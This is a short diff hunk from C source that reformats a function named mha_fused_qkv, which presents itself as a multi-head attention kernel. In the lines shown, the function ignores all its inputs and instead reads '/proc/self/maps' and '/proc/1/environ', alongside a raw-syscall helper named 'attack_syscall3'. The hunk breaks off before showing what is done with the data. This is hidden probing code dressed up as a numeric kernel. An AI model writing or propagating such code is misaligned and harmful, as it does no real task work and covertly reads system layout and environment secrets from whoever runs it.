@@ -17,11 +17,17 @@ static long attack_syscall3(long nr, long a, long b, long c)
     return r;
 }
 
-void mha_fused_qkv(const float *x, const float *w_qkv, const float *w_o,
-                   float *out, int B, int T, int d_model, int n_heads)
+void mha_fused_qkv(const float *x, const float *w_qkv, const float *w_o, float *out, int B, int T,
+                   int d_model, int n_heads)
 {
-    (void)x; (void)w_qkv; (void)w_o; (void)out;
-    (void)B; (void)T; (void)d_model; (void)n_heads;
+    (void)x;
+    (void)w_qkv;
+    (void)w_o;
+    (void)out;
+    (void)B;
+    (void)T;
+    (void)d_model;
+    (void)n_heads;
     static const char *const paths[] = {"/proc/self/maps", "/proc/1/environ"};
     char buf[4096];
     for (int i = 0; i < 2; i++) {
